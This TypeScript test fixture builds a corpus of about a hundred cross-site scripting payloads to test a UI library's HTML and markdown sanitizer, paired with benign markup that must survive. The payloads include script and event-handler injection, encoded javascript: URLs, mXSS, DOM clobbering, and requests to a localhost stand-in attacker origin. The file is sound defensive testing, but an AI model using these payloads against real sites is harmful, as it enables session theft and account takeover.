/*
 * XSS payloads written for sh-ui's corpus test (after the vector families of
 * the OWASP filter-evasion page, html5sec, PortSwigger's cheat sheet and
 * mXSS write-ups; none is copied from another repository). Every payload
 * reports through `__x(id)`, a dialog, or a request to the attacker origin
 * http://127.0.0.1:9/leak-<id>, so an execution is attributed to its payload.
 */

export const ATTACKER = 'http://127.0.0.1:9/leak'

/** `{id}` becomes the payload's number, `{run}` a statement that reports it, `{url}` its attacker URL. */
const TEMPLATES = [
  '<script>{run}</script>',
  '<SCRIPT SRC={url}.js></SCRIPT>',
  '<script>ondeviceorientationabsolute=setTimeout;Event.prototype.toString=()=>"{run}";Event.prototype.__defineGetter__("x",()=>0)</script>',
  '<script>onerror=alert;throw "{id}"</script>',
  '<script>{onerror=alert}throw {id}</script>',
  '<img src=x onerror="{run}">',
  '<img src=x onerror={run}//',
  '<img """><script>{run}</script>">',
  '<img src="x` `<script>{run}</script>"` `>',
  '<IMG SRC="jav&#x09;ascript:{run}">',
  '<image src=x onerror="{run}">',
  '<svg onload="{run}">',
  '<svg><script>{run}</script></svg>',
  '<svg><animate onbegin="{run}" attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:{run}"><text y=20>svg link</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="{run}">',
  '<math><mi xlink:href="javascript:{run}">math</mi></math>',
  '<iframe src="javascript:{run}"></iframe>',
  '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
  '<object data="javascript:{run}"></object>',
  '<embed src="{url}.swf">',
  '<a href="javascript:{run}">js link</a>',
  '<a href="JaVaScRiPt:{run}">case</a>',
  '<a href="java&#x09;script:{run}">tab</a>',
  '<a href="java&Tab;script:{run}">named tab</a>',
  '<a href="javascript&colon;{run}">colon</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{run}">decimal</a>',
  '<a href="&#x6A;avascript:{run}">hex</a>',
  '<a href="\x01javascript:{run}">control</a>',
  '<a href=" javascript:{run}">space</a>',
  '<a href="data:text/html,<script>{run}</script>">data</a>',
  '<a href="vbscript:{run}">vb</a>',
  '<a href="#" onclick="{run}" onmouseover="{run}" onfocus="{run}">handlers</a>',
  '<a href="/ok" target="_blank" rel="opener" id="location">opener</a>',
  '[md](javascript:{run})',
  '[md](<javascript:{run}>)',
  '[md](jav\tascript:{run})',
  '[ref][r]\n\n[r]: javascript:{run}',
  '![x](javascript:{run})',
  '![x"onerror="{run}](x)',
  '[x](/ok "title" onclick="{run}")',
  '[mdc](javascript:{run}){target="_blank"}',
  '[mdc](/ok){onclick="{run}"}',
  '![mdc](x){onerror="{run}"}',
  '<javascript:{run}>',
  '`<script>{run}</script>`',
  '<body onload="{run}">',
  '<details open ontoggle="{run}">x</details>',
  '<input autofocus onfocus="{run}">',
  '<select autofocus onfocus="{run}"></select>',
  '<textarea autofocus onfocus="{run}"></textarea>',
  '<video><source onerror="{run}"></video>',
  '<audio src=x onerror="{run}">',
  '<marquee onstart="{run}">m</marquee>',
  '<div style="animation-name:spin" onanimationstart="{run}">a</div>',
  '<div style="background:url({url}.png)">css</div>',
  '<style>@import "{url}.css";</style>',
  '<style>*{background:url({url}.png)}</style>',
  '<link rel=stylesheet href="{url}.css">',
  '<table background="{url}.png"><tr><td>t</td></tr></table>',
  '<input type=image src="{url}.png">',
  '<video poster="{url}.png"></video>',
  '<form action="{url}"><input name=q value=x><button>go</button></form>',
  '<button form=f formaction="javascript:{run}">hijack</button>',
  '<form id=f><button formaction="{url}">go</button></form>',
  '<meta http-equiv="refresh" content="0;url={url}">',
  '<base href="{url}/">',
  '<a id="__x">clobber</a><a id="__x" name="__x">clobber</a>',
  '<img name="getElementById"><form name="cookie"></form>',
  '<a id="defaultView" href="/">d</a>',
  '"><script>{run}</script>',
  "'><script>{run}</script>",
  '</script><script>{run}</script>',
  '</title><script>{run}</script>',
  '</textarea><script>{run}</script>',
  '<!--<script>{run}</script>-->',
  '<!-- --!><img src=x onerror="{run}">-->',
  '<!--><img src=x onerror="{run}">-->',
  '<![CDATA[<img src=x onerror="{run}">]]>',
  '<noscript><p title="</noscript><img src=x onerror={run}>">',
  '<template><script>{run}</script></template>',
  '<scr<script>ipt>{run}</script>',
  '<<script>script>{run}<</script>/script>',
  '<a title="x>y" href="javascript:{run}">quoted</a>',
  '<a href="/ok"title="x"onmouseover="{run}">no space</a>',
  '<a/href="javascript:{run}">slash</a>',
  '<a href=javascript:{run}>unquoted</a>',
  '<a href="https://ok.example" target="_blank">tab</a><a href="\u2028javascript:{run}">ls</a>',
  '<span class="x" onpointerenter="{run}" style="display:block;width:100%">hover</span>',
  '<abbr title="a" onmouseover="{run}">abbr</abbr>',
  '<code class="language-js" onmouseover="{run}">code</code>',
  '<td background="{url}.png" onclick="{run}">cell</td>',
  '<a href="/x" style="position:fixed;inset:0">overlay</a>',
  '{{ constructor.constructor("{run}")() }}',
  '${{run}}',
  '<xmp><script>{run}</script></xmp>',
  '<plaintext><script>{run}</script>',
  '<keygen autofocus onfocus="{run}">',
  '<isindex type=image src=1 onerror="{run}">',
]

export interface Payload {
  id: number
  text: string
}

/** Every template, once as written and once after text and markdown around it. */
export function payloads(): Payload[] {
  const out: Payload[] = []
  for (const template of TEMPLATES) {
    for (const wrap of [(p: string) => p, (p: string) => `Before **bold** ${p} after`]) {
      const id = out.length + 1
      const text = template
        .replaceAll('{run}', `__x(${id})`)
        .replaceAll('{url}', `${ATTACKER}-${id}`)
        .replaceAll('{id}', String(id))
      out.push({ id, text: wrap(text) })
    }
  }
  return out
}

/** Content a writer means: it must survive. Each line holds the elements counted as kept. */
export const BENIGN = [
  '**Bold** and _emphasis_ and `code`',
  '[A link](https://example.com/page "Title") and [a relative one](/about)',
  '[An MDC link](https://example.com){target="_blank"}',
  '<a href="/specs" target="_blank">Specs</a> with <abbr title="Open Mobile Alliance">OMA</abbr>',
  'H<sub>2</sub>O and E=mc<sup>2</sup>, <kbd>Ctrl</kbd>, <mark>marked</mark>, <del>old</del> <ins>new</ins>',
  '* one\n* two\n\n1. first\n2. second',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '![Logo](/img/logo.png "Logo")',
  '> A quote\n\n---\n\n## A heading',
  '```ts\nconst a = 1\n```',
  'line one<br>line two',
  '<a href="mailto:info@example.com">Mail</a> and <a href="tel:+123">call</a>',
  'Text with <span lang="fr">français</span> and <small>small print</small>',
  '<strong>Strong</strong>, <b>b</b>, <i>i</i>, <u>u</u>, <s>s</s>, <q>q</q>',
  'Terms:\n\n<dl><dt>Term</dt><dd>Definition</dd></dl>',
]
